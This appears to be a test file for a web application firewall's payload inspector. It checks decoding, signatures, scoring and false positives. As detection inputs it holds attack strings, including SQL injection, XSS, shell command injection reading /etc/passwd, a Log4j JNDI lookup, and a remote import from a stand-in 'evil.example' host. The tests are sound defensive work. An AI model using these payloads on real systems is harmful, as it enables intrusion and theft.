/** The inspection of payloads: decoding, signatures, the model, and where values are found. */
import { readVectors } from '@parapet/testing'
import fc from 'fast-check'
import { IncomingMessage } from 'node:http'
import { Socket } from 'node:net'
import { PassThrough } from 'node:stream'
import t from 'tap'
import { compileAutomaton } from '../src/inspect/automaton.ts'
import { foldValue } from '../src/inspect/fold.ts'
import { createInspector } from '../src/inspect/inspector.ts'
import { attackProbability } from '../src/inspect/model.ts'
import type { Inspection, InspectorSettings, RequestParts } from '../src/inspect/types.ts'
import { allSignatures } from '../src/signatures/all.ts'
import {
  bodyOf,
  ordinaryTexts,
  requestOf,
  stageOf,
  type Labelled,
  type Payload,
  type Stage,
} from './corpus.ts'

const inspector = createInspector()
const query = (value: string): RequestParts => ({ url: `/?q=${encodeURIComponent(value)}` })
const inspect = (parts: RequestParts, settings?: InspectorSettings): Inspection =>
  (settings === undefined ? inspector : createInspector(settings)).inspect(parts)

/** A limit is a finding, and no attack. */
const limited = (rule: string) => ({ attack: false, reasons: [{ class: 'protocol', rule }] })

const nest = (levels: number, inmost: unknown) => {
  let body = inmost
  for (let i = 0; i < levels; i++) body = { replies: [body] }
  return body
}

const lines = (count: number, of: (i: number) => string) =>
  Array.from({ length: count }, (_, i) => of(i)).join('\n')

/** A body with one file, as `@fastify/multipart` attaches it. */
const upload = (filename: string) => {
  const part = { fieldname: 'f', filename, fields: {} as object }
  part.fields = { f: [part] }
  return { body: { f: [part] } }
}

/** Shares of attacks by group, and all harmless ones that were taken for attacks. */
function rate(requests: readonly Labelled[]) {
  const groups = new Map<string, { all: number; found: number }>()
  const mistaken: string[] = []
  let [attacks, found, harmless] = [0, 0, 0]
  for (const { attack, group, text, parts } of requests) {
    const isFound = inspector.inspect(parts).attack
    if (!attack) {
      harmless++
      if (isFound) mistaken.push(text)
      continue
    }
    const counts = groups.get(group) ?? { all: 0, found: 0 }
    groups.set(group, { all: counts.all + 1, found: counts.found + (isFound ? 1 : 0) })
    attacks++
    if (isFound) found++
  }
  return { groups, mistaken, share: found / attacks, harmless }
}

await t.test('no signature can take more than linear time', async (t) => {
  const { length } = allSignatures
  t.ok(length > 200, `${length} signatures`)
  t.equal(new Set(allSignatures.map(({ id }) => id)).size, length, 'every id is its own')
  for (const { id, match, at, weight } of allSignatures) {
    // Outside of classes and escapes, a pattern repeats only by `?` and by `{n}` or `{n,m}`.
    const plain = (match?.source ?? '').replaceAll(/\\./g, '').replaceAll(/\[[^\]]*\]/g, '')
    if (/[*+]|\{\d*,\}/.test(plain)) t.fail(`${id} repeats without a bound`)
    const bounds = [...plain.matchAll(/\{(?:\d+,)?(\d+)\}/g)].map(([, most]) => Number(most))
    if (bounds.some((most) => most > 250)) t.fail(`${id} looks too far`)
    if (match !== undefined && match.flags !== 'y') t.fail(`${id} searches on its own`)
    if (at.some((word) => word === '' || !/^[\n\x20-\x7e]+$/.test(word) || /[A-Z]/.test(word))) {
      t.fail(`${id} has a word that never occurs in a folded text`)
    }
    if (!(weight > 0 && weight <= 1)) t.fail(`${id} weighs ${weight}`)
  }
})

await t.test('the automaton finds what a naive search finds', async (t) => {
  const letters = fc.constantFrom('a', 'b', 'c', '<')
  const words = fc.array(fc.string({ unit: letters, minLength: 1, maxLength: 4 }), { minLength: 1 })
  await fc.assert(
    fc.asyncProperty(words, fc.string({ unit: letters, maxLength: 60 }), async (given, text) => {
      const unique = [...new Set(given)]
      const found: string[] = []
      compileAutomaton(unique).scan(text, (word, end) => {
        found.push(`${unique[word]}@${end}`)
        return true
      })
      const expected = unique.flatMap((word) =>
        Array.from({ length: text.length + 1 }, (_, end) => end)
          .filter((end) => text.slice(0, end).endsWith(word))
          .map((end) => `${word}@${end}`),
      )
      return found.toSorted().join() === expected.toSorted().join()
    }),
  )
  t.pass('in all cases')
})

await t.test('values are folded into one spelling', async (t) => {
  for (const [value, folded] of [
    ['Select', 'select'],
    ['a  b\t\tc', 'a b c'],
    ['a \r\n b', 'a\nb'],
    ['%53elect', 'select'],
    ['%2553elect', 'select'],
    ['%u0053elect', 'select'],
    ['%c0%af%e0%80%af%f0%80%80%af', '///'],
    ['%c0%2f', '/'],
    ['&lt;script&gt;', '<script>'],
    ['&#60;&#x3c;&#0000060', '<<<'],
    ['\\x3cb\\u003cb\\u{3c}', '<b<b<'],
    ['＜ｓｃｒｉｐｔ＞', '<script>'],
    ['ⓢⓒⓡⓘⓟⓣ', 'script'],
    ['scr\0ipt', 'script'],
    ['union/**/select', 'union select'],
    ['un/*!50000ion*/ all', 'un ion all'],
    ['/*a*/*/', ' '],
    ['a/* no end', 'a/* no end'],
    ['‘a’ “b”', '\'a\' "b"'],
    ['嘊嘍', '\n'],
    ['100% sure & so on', '100% sure & so on'],
    [
      '%zz %4 % &nothing; &#; &#x; \\u12 \\u{} \\u{1234567} \\xz %uzzzz %c3(',
      '%zz %4 % &nothing; &#; &#x; \\u12 \\u{} \\u{1234567} \\xz %uzzzz ã(',
    ],
    ['&#x110000; \\u{110000}', '&#x110000; \\u{110000}'],
    ['%f0%9f%98%80', '😀'],
  ] as const) {
    t.equal(foldValue(value).text, folded.toLowerCase(), JSON.stringify(value))
  }
  t.equal(foldValue("c''at${IFS}/e\\tc").shell, 'cat /etc')
  t.equal(foldValue('1+union+select').spaced, '1 union select')
  t.equal(foldValue('plain').shell, undefined)
  t.ok(foldValue('a%00b').hasNul)
})

await t.test('one attack is found in every encoding', async (t) => {
  const attack = "' UNION SELECT password FROM users--"
  const percent = encodeURIComponent(attack)
  const all = (form: (code: string) => string) =>
    Array.from(attack, (char) => form(char.charCodeAt(0).toString(16).padStart(2, '0'))).join('')
  for (const [how, url] of [
    ['once', `/?q=${percent}`],
    ['twice', `/?q=${encodeURIComponent(percent)}`],
    ['three times', `/?q=${encodeURIComponent(encodeURIComponent(percent))}`],
    ['with plus signs', `/?q=${percent.replaceAll('%20', '+')}`],
    ['every character', `/?q=${all((code) => `%${code}`)}`],
    ['%u', `/?q=${all((code) => `%u00${code}`)}`],
    ['entities', `/?q=${encodeURIComponent(all((code) => `&#x${code};`))}`],
    ['escapes', `/?q=${encodeURIComponent(all((code) => `\\x${code}`))}`],
    ['comments', `/?q=${percent.replaceAll('%20', '/*x*/')}`],
    ['in the path', `/a/${percent}`],
    ['as a name', `/?${percent}=1`],
    ['behind 50 kB', `/?q=${'a'.repeat(50_000)}${percent}`],
  ] as const) {
    const { attack: isFound, class: kind } = inspect({ url })
    t.same([isFound, kind], [true, 'sqli'], how)
  }
})

await t.test('values are found in all parts of a request', async (t) => {
  const attack = '<script>alert(1)</script>'
  const multipart = { fieldname: 'f', mimetype: 'text/plain', value: attack, fields: {} as object }
  multipart.fields = { f: multipart }
  for (const [location, parts] of [
    ['path', { url: `/${encodeURIComponent(attack)}` }],
    ['query.q', query(attack)],
    ['query.a', { url: `/?b=1&a=${attack}&c` }],
    ['header.referer', { headers: { referer: attack } }],
    ['header.x-forwarded-for', { headers: { 'x-forwarded-for': ['1.2.3.4', attack] } }],
    ['cookie.theme', { headers: { cookie: `a=b; theme=${encodeURIComponent(attack)}` } }],
    ['body', { body: attack }],
    ['body.user.name', { body: { user: { name: attack } } }],
    ['body.tags', { body: { tags: ['a', attack] } }],
    ['body.f', { body: { f: multipart } }],
  ] as const) {
    const { attack: isFound, reasons } = inspect(parts)
    t.same([isFound, reasons[0]?.location], [true, location], location)
  }
  t.match(inspect({ body: { [attack]: 1 } }).reasons[0]?.location, /\(name\)$/)
  t.match(inspect(upload('shell.php')), { attack: true, class: 'code' })
  t.match(inspect(upload('photo.jpg')), { attack: false })
  const pretended = { fieldname: 'a', fields: { a: 1 }, value: 'x', note: attack }
  t.match(inspect({ body: pretended }), { attack: true }, 'JSON that looks like a part')
  t.match(inspect({ body: { fieldname: 'a', fields: null, note: attack } }), { attack: true })
  t.match(inspect({ headers: { 'x-filename': 'a.jsp' } }), { attack: true })
  t.match(inspect({ body: { $where: 'x' } }), { attack: true, class: 'nosql' })
  t.match(inspect({ url: '/?user[$ne]=1' }), { attack: true, class: 'nosql' })
  t.match(inspect({ url: '/?__proto__[a]=1' }), { attack: true, class: 'prototype' })
  t.match(inspect({ url: '/a%0d%0aset-cookie:b' }), { attack: true, class: 'crlf' })
})

await t.test('a request without values costs nothing', async (t) => {
  const headers = { host: 'example', authorization: 'Basic JyBvciAxPTE=', 'x-none': undefined }
  for (const parts of [
    {},
    { url: '/' },
    { url: '/?' },
    { headers },
    { body: null },
    { body: 5 },
    { body: Buffer.from([0xff, 0xd8, 0, 1]) },
  ]) {
    t.match(inspect(parts), { score: 0, attack: false, class: undefined, reasons: [] })
  }
})

await t.test('fields are exempt, or read as base64, by their location', async (t) => {
  const attack = "1' or '1'='1"
  const fields = { 'body.article.*': 'skip', 'query.sql': 'skip', 'body.data': 'base64' } as const
  t.equal(inspect({ body: { article: { text: attack, title: attack } } }, { fields }).attack, false)
  t.equal(
    inspect({ body: { article: attack } }, { fields }).attack,
    true,
    'the parent is none of them',
  )
  t.equal(inspect({ url: `/?sql=${encodeURIComponent(attack)}` }, { fields }).attack, false)
  const data = Buffer.from(attack).toString('base64')
  t.equal(inspect({ body: { data } }, { fields }).attack, true)
  t.equal(inspect({ body: { other: data } }, { fields }).attack, false, 'base64 is not guessed')
  t.equal(inspect({ body: { data: 'no base64!' } }, { fields }).attack, false)
  const long = Buffer.from(`${attack} ${'and more text '.repeat(9)}`).toString('base64')
  for (const [how, form] of [
    ['lines', long.replaceAll(/.{20}/g, '$&\r\n')],
    ['a blank', `${data.slice(0, 6)} ${data.slice(6)}`],
    ['a data URL', `data:text/plain;base64,${data}`],
    ['base64 of base64', Buffer.from(data).toString('base64')],
    ['UTF-16', Buffer.from(attack, 'utf16le').toString('base64')],
  ] as const) {
    t.equal(inspect({ body: { data: form } }, { fields }).attack, true, how)
  }
})

await t.test('classes can be left out, and the threshold moved', async (t) => {
  const attack = query("1' or '1'='1")
  t.equal(inspect(attack, { without: ['sqli'] }).attack, false)
  t.equal(inspect(attack, { without: ['xss'] }).class, 'sqli')
  t.equal(inspect({ url: '/a%00' }).attack, true)
  t.equal(inspect({ url: '/a%00' }, { without: ['protocol'] }).attack, false)
  t.match(inspect(attack, { threshold: 1 }), { attack: false, class: 'sqli' })
})

await t.test('what users and programs usually send is no attack', async (t) => {
  const texts = [
    "Siobhan O'Brien & Sons",
    'News | More | Cat Food',
    'salt & pepper; oil; vinegar',
    'rock & roll; top 10 songs',
    'Select an item from the list, or order by phone',
    '2 or 4 metal buttons, 3/4" and 1/2"',
    'C++ and C#, .NET & Python 3',
    'The union select committee will update the table and drop the chair',
    '{"a":1,"b":[true,null],"c":"d"}',
    'a < b && c > d',
    '<b>bold</b> and <i>italic</i>',
    '<p class="note">A note</p>',
    'see [the guide](../guide/start.md#first)',
    'https://shop.example/a?b=1&c=2#d',
    'data:image/png;base64,iVBORw0KGgo=',
    'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln',
    '2026-01-05T12:00:00.000Z',
    'user+tag@example.com',
    '+353 (1) 555-0100',
    'C:\\ is the first disk',
    '100% -- really!',
    '¿Qué tal? Ça va… “ok” – naïve',
    '日本語のテキスト',
    '3 * (4 + 5) = 27',
    'x'.repeat(5000),
  ]
  for (const text of texts) {
    for (const parts of [query(text), { body: { text } }, { body: text }]) {
      const { attack, reasons } = inspect(parts)
      t.equal(attack, false, `${text.slice(0, 60)} ${attack ? reasons[0]?.rule : ''}`)
    }
  }
  for (const parts of [
    { url: '/oauth?redirect_uri=http%3A%2F%2Flocalhost%3A3000%2Fcallback&state=a.b_c-d' },
    { url: '/items?price__gte=10&order=-created&page[size]=20&filter[name]=lamp' },
    { url: '/blog/2026/union-select-explained.html' },
    { headers: { referer: 'http://localhost:3000/cart', origin: 'http://127.0.0.1:3000' } },
    { headers: { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101' } },
    { headers: { accept: 'text/html,application/xml;q=0.9,*/*;q=0.8', te: 'trailers' } },
    { headers: { cookie: '_ga=GA1.2.1.2; s=s%3Aabc.def%2Fghi%3D; theme="dark"' } },
  ]) {
    t.equal(inspect(parts).attack, false, JSON.stringify(parts).slice(0, 80))
  }
})

await t.test(
  'ordinary texts with a word of an attack are no attack, short or in prose',
  async (t) => {
    for (const text of ordinaryTexts) {
      for (const [where, parts] of [
        ['a query', query(text)],
        ['a body', { body: { text } }],
        [
          'prose',
          { body: `Hello, this is what I have seen today: ${text} and that is all I can say.` },
        ],
      ] as const) {
        const { attack, reasons } = inspect(parts)
        if (attack) t.fail(`${JSON.stringify(text)} in ${where}: ${reasons[0]?.rule}`)
      }
    }
    const rows = Array.from({ length: 700 }, (_, i) => ({
      id: String(i),
      a: 'x',
      b: 'x',
      c: 'x',
      d: 'x',
    }))
    const xml =
      '<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 x.xsd"/>'
    for (const parts of [
      { body: { $type: 'app.example.feed.post', text: 'hi' } },
      { body: { $set: { plan: 'pro' }, $search: 'blue' } },
      { body: { rows } },
      { body: { xml } },
      { body: xml },
      { body: { html: '<p style="color: red" class="note">Hello <a href="/a?b=1">you</a></p>' } },
      { url: '/?$filter=a&$search=blue&$top=10&$orderby=name' },
      { url: '/?redirect_uri=http://localhost:3000' },
      { url: '/?next=https://192.168.1.20/app' },
      { url: `/?next=${encodeURIComponent('/list?a=1&onpage=2')}` },
      { url: '/?q=coast.+house' },
      {
        headers: {
          referer: 'https://shop.example/search?q=the%20coast.&next=../../a&x=1%20or%201=1',
        },
      },
      {
        headers: {
          host: 'shop.example',
          authorization: 'Bearer a.b-c_d',
          'sec-ch-ua': '"A";v="1"',
        },
      },
    ]) {
      const { attack, reasons } = inspect(parts)
      t.equal(
        attack,
        false,
        `${JSON.stringify(parts).slice(0, 80)} ${attack ? reasons[0]?.rule : ''}`,
      )
    }
  },
)

await t.test('a lookup of Log4j is found in every header', async (t) => {
  for (const name of [
    'authorization',
    'host',
    'if-modified-since',
    'sec-ch-ua',
    'referer',
    'date',
  ]) {
    const value = 'https://a.example/${jndi:ldap://b.example/a}'
    t.match(inspect({ headers: { [name]: value } }), { attack: true, class: 'log4shell' }, name)
  }
})

await t.test('single payloads are found', async (t) => {
  for (const text of [
    "x' or not false #",
    '-1 union values row(1,2)',
    '";import("//evil.example/a")//',
    'x;node -e 1',
    '{{dump()}}',
    '$(id)',
    '`id`',
    '<script>alert(1)</script>',
    "' or true -- ",
    '#{root.process}',
    'x & whoami',
    '{{7*7}}',
  ]) {
    t.equal(inspect({ body: { q: text } }).attack, true, text)
  }
  for (const url of [
    '/?u=a%0d%0aContent-Security-Policy:x',
    '/?u=a%0aStrict-Transport-Security:max-age=0',
  ])
    t.equal(inspect({ url }).attack, true, url)
  t.equal(inspect({ body: { $unionWith: 'users' } }).attack, true)
  t.equal(inspect({ body: { a: { $sum: 1 } } }).attack, true)
})

await t.test('a hint counts only as much as the model confirms it', async (t) => {
  const confirmed = inspect(query("1'-@a or'1"))
  t.ok(confirmed.score > 0.3)
  t.equal(inspect(query('a lamp, 14" (1950\'s)')).attack, false)
  t.ok(attackProbability("' or 1=1 union select") > 0.95)
  t.ok(attackProbability('rose gold necklace 14 inch') < 0.05)
  // Without a hint the model is not asked.
  t.match(inspect({ body: { q: ') ) ) ' } }), { score: 0 })
})

await t.test('limits end the look at a request, and are no attack', async (t) => {
  const attack = '<script>alert(1)</script>'
  t.match(inspect({ body: nest(17, 'x') }), { score: 0 }, 'a thread of comments')
  t.match(inspect({ body: nest(49, attack) }), { attack: true })
  t.match(inspect({ body: nest(60, attack) }), limited('protocol.depth'))
  t.match(inspect({ body: nest(60, attack) }, { maxDepth: 200 }), { attack: true })
  const nested: unknown = JSON.parse(`${'['.repeat(50_000)}${']'.repeat(50_000)}`)
  t.match(inspect({ body: nested }), limited('protocol.depth'), 'a stack of arrays')
  const rows = Array.from({ length: 1000 }, (_, i) => ({
    id: `${i}`,
    a: 'x',
    b: 'x',
    c: 'x',
    d: 'x',
  }))
  t.match(inspect({ body: { rows } }), { score: 0 }, 'a bulk import')
  t.match(inspect({ body: Array.from({ length: 10_001 }, () => 'x') }), { score: 0 }, 'tags')
  const many = Array.from({ length: 20 }, () => 'x')
  t.match(inspect({ body: many }, { maxValues: 10 }), limited('protocol.values'))
  const hollow = Array.from({ length: 20 }, () => [])
  t.match(inspect({ body: hollow }, { maxValues: 10 }), limited('protocol.values'))
  const pairs = `/?${'a=b&'.repeat(30)}`
  t.match(inspect({ url: pairs }, { maxValues: 10 }), limited('protocol.values'))
  t.match(inspect({ url: '/?a=b%00c' }), { attack: true, reasons: [{ rule: 'protocol.nul' }] })
  t.equal(inspect({ body: { a: 'b\0c' } }).attack, false, 'a NUL of a body is no finding')
})

await t.test(
  'a text that uses up its tries is no attack, and hides none at its ends',
  async (t) => {
    const dense = '1;or;and;in;is;on\n'.repeat(5000)
    t.match(inspect({ body: dense }), { attack: false, reasons: [{ rule: 'protocol.dense' }] })
    for (const [where, body] of [
      ['at the beginning', `1' or '1'='1' ${dense}`],
      ['at the end', `${dense} 1' or '1'='1`],
      [
        'in the middle, of words that are rare in it',
        `${dense} <script>alert(1)</script> ${dense}`,
      ],
      ['in the middle, a statement', `${dense} 1 union select password from users ${dense}`],
    ] as const) {
      t.match(inspect({ body }), { attack: true }, where)
    }
  },
)

await t.test('long texts as people write them are no attack', async (t) => {
  const sentence =
    'We met at the station and walked to the harbour, where the boats are in for the winter or for repair, and then it rained. '
  const licence = `Permission is hereby granted, free of charge, to any person obtaining a copy of this software and associated documentation files (the "Software"), to deal in the Software without restriction, including without limitation the rights to use, copy, modify, merge, publish, distribute, sublicense, and/or sell copies of the Software, and to permit persons to whom the Software is furnished to do so, subject to the following conditions: THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT.\n`
  for (const [name, text] of [
    ['prose of 4 KB', sentence.repeat(35)],
    ['prose of 20 KB', sentence.repeat(160)],
    ['prose of 90 KB', sentence.repeat(720)],
    ['lines of prose', lines(200, () => sentence)],
    ['and/or', 'bread and butter or jam and tea or coffee, '.repeat(200)],
    ['CSV of words', lines(3000, (i) => `${i};or;and;in;is;on`)],
    ['quoted CSV', lines(3000, (i) => `"${i}","Name ${i}","x"`)],
    ['CSV with apostrophes', lines(1000, (i) => `${i},O'Brien,"5 or 6","yes, and no"`)],
    ['a table of Markdown', lines(300, (i) => `| ${i} | a | b |`)],
    ['a list of Markdown', lines(300, (i) => `- **item ${i}**: see [it](#i${i}) and \`code\``)],
    ['apostrophes', "it's don't can't 'quoted' ".repeat(400)],
    ['a licence', licence.repeat(8)],
    ['a log', lines(400, (i) => `2026-01-05 12:00:${i % 60} INFO [main] user=${i} status=200`)],
    ['JSON', JSON.stringify(Array.from({ length: 500 }, (_, id) => ({ id, or: 'and', in: [] })))],
    ['base64', Buffer.from(lines(2000, String)).toString('base64')],
  ] as const) {
    for (const body of [{ text }, text, Buffer.from(text)]) {
      const { attack, reasons } = inspect({ body })
      t.equal(attack, false, `${name} ${attack ? reasons[0]?.rule : ''}`)
    }
  }
  t.match(
    inspect({ body: `${sentence.repeat(80)}' union select password from users-- ${sentence}` }),
    {
      attack: true,
    },
  )
  const pad = 'lorem ipsum dolor sit amet '.repeat(400)
  const quoted = `${pad}${pad}; c''at /e''tc/pa''sswd ${pad}`
  t.match(inspect({ body: quoted }), { attack: true }, 'a command in quotes in the middle')
})

await t.test('bodies are read as data, and live objects are left alone', async (t) => {
  const attack = '<script>alert(1)</script>'
  const large = Buffer.from(`${'é lorem ipsum '.repeat(9000)}${attack}`)
  const bare: object = Object.assign(Object.create(null) as object, { a: attack })
  for (const [name, body] of [
    ['a map', new Map([['a', attack]])],
    ['a map of other keys', new Map([[1, { b: attack }]])],
    ['a set', new Set([attack])],
    ['pairs of a query', new URLSearchParams({ a: attack })],
    ['a name', new URLSearchParams({ [attack]: 'a' })],
    ['a form', [new Map([['f', [new Set([attack])]]])]],
    ['a text in a buffer', Buffer.from(attack)],
    ['bytes', new TextEncoder().encode(attack)],
    ['an ArrayBuffer', new Uint8Array(Buffer.from(attack)).buffer],
    ['a large one, at its end', large],
    ['UTF-16', Buffer.from(`\uFEFF${attack}`, 'utf16le')],
    ['UTF-16 of the other order', Buffer.from(`\uFEFF${attack}`, 'utf16le').swap16()],
    ['a string object', { a: new String(attack) }],
    ['an object without prototype', bare],
  ] as const) {
    t.match(inspect({ body }), { attack: true, class: 'xss' }, name)
  }
  const circle: Record<string, unknown> = { a: 'x' }
  circle['self'] = [circle]
  const throwing = {
    get lazy(): string {
      throw new Error('not to be read')
    },
    z: attack,
  }
  for (const [name, body] of [
    ['a stream', new PassThrough()],
    ['a request', new IncomingMessage(new Socket())],
    ['a stream in an object', { file: new PassThrough(), name: 'x' }],
    ['a circle', circle],
    ['a picture', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0, 16]), Buffer.from(attack)])],
    ['a date', { at: new Date(0) }],
    ['a promise', Promise.resolve(attack)],
  ] as const) {
    t.match(inspect({ body }), { score: 0, attack: false }, name)
  }
  t.match(inspect({ body: throwing }), { attack: true }, 'a getter that throws hides nothing')
})

await t.test('a finding names no payload, and at most eight are kept', async (t) => {
  const body = Object.fromEntries(
    Array.from({ length: 50 }, (_, i) => [`field${i}\n\0${'x'.repeat(200)}`, 'SECRET <script>']),
  )
  const { reasons } = inspect({ body })
  t.equal(reasons.length, 8)
  for (const { location, rule } of reasons) {
    t.ok(location.length <= 120 && !/\p{Cc}/u.test(location), 'a short location without controls')
    t.notMatch(`${location} ${rule}`, /SECRET/)
  }
})

await t.test(
  'names and headers that were clean are not looked at again, whatever came between',
  async (t) => {
    const own = createInspector()
    for (let i = 0; i < 10_000; i++)
      own.inspect({ url: `/?name${i}=1`, headers: { 'x-a': `v${i}` } })
    t.equal(own.inspect({ url: '/?<script>=1' }).attack, true)
    t.equal(own.inspect({ url: '/?<script>=1' }).attack, true, 'twice')
    t.equal(own.inspect({ url: '/?agent:sqlmap=1&header:sqlmap=1' }).attack, false)
    t.equal(own.inspect({ headers: { 'user-agent': 'sqlmap' } }).attack, true, 'a clean name')
    const coded = createInspector({ fields: { 'header.x-b': 'base64' } })
    const headers = { 'x-b': Buffer.from("1' or '1'='1").toString('base64') }
    const twice = [1, 2].map(() => coded.inspect({ headers }).attack)
    t.same(twice, [true, true], 'base64 twice')
    t.equal(own.inspect({ headers: { 'x-a': '<script>' } }).attack, true)
  },
)

await t.test('nothing throws, whatever the request is', async (t) => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom(...Array.from('%&\\#x0u{};<\'"$[]()/*+.0afc ')) }),
  )
  const header = fc.dictionary(fc.string(), fc.oneof(text, fc.array(text)))
  const body = fc.oneof(text, fc.object({ values: [text], maxDepth: 4 }), fc.anything())
  fc.assert(
    fc.property(text, header, body, (url, headers, any) => {
      const { score, attack, reasons } = inspect({ url, headers, body: any })
      return score >= 0 && score <= 1 && attack === score >= 0.7 && reasons.length <= 8
    }),
    { numRuns: 500 },
  )
  t.pass('in all cases')
})

await t.test(
  'the shared corpora: 99 % of attacks, 97 % of each class, 0.3 % of harmless',
  async (t) => {
    const injections = readVectors<Payload[]>(t, 'waf/libinjection.jsonl.gz')
    const others = readVectors<Payload[]>(t, 'waf/gotestwaf.jsonl.gz')
    if (injections === null || others === null) return
    for (const [where, form] of [
      ['the query', requestOf],
      ['a body', bodyOf],
    ] as const) {
      const { share, groups, mistaken, harmless } = rate([...injections, ...others].map(form))
      t.ok(share >= 0.99, `${(100 * share).toFixed(2)} % of attacks in ${where}`)
      t.ok(
        mistaken.length <= 0.003 * harmless,
        `${mistaken.length} of ${harmless} harmless: ${mistaken.join('; ')}`,
      )
      for (const [group, { all, found }] of groups) {
        // A user agent is a header, and says nothing in a body.
        if (where === 'a body' && group === 'community-user-agent') continue
        t.ok(found >= 0.97 * all, `${found} of ${all} of ${group} in ${where}`)
      }
    }
  },
)

await t.test('the core rule set: 60 % of the stages of its request rules', async (t) => {
  const stages = readVectors<Stage[]>(t, 'waf/crs-regression.jsonl.gz')
  if (stages === null) return
  const request = stages.filter(({ l, grp }) => l === 1 && /^REQUEST-9(?:2[12]|3|4[1-4])/.test(grp))
  const { share } = rate(request.map(stageOf))
  t.ok(share >= 0.6, `${(100 * share).toFixed(1)} % of ${request.length}`)
})

await t.test('code as people quote it is no attack where nothing would run it', async (t) => {
  for (const text of [
    'Great!!',
    '!!',
    'LIMIT 10 OFFSET 20',
    'new Date().getTime()',
    'new Array(5)',
    'if (a == b) { return c }',
    'setTimeout(() => {}, 100)',
    'const a = b ? c : d;',
    'git status; git diff',
    'SELECT 1',
    'docker ps | grep web',
    'x => x * 2',
  ]) {
    t.equal(inspect({ body: { text } }).attack, false, text)
  }
  for (const text of [
    "1' limit 1 offset 1#",
    '1 limit 0,1',
    "setTimeout('alert(1)', 1)",
    'setTimeout(() => alert(1))',
    'if "%a%"=="b" del x',
  ]) {
    t.equal(inspect({ body: { text } }).attack, true, text)
  }
})
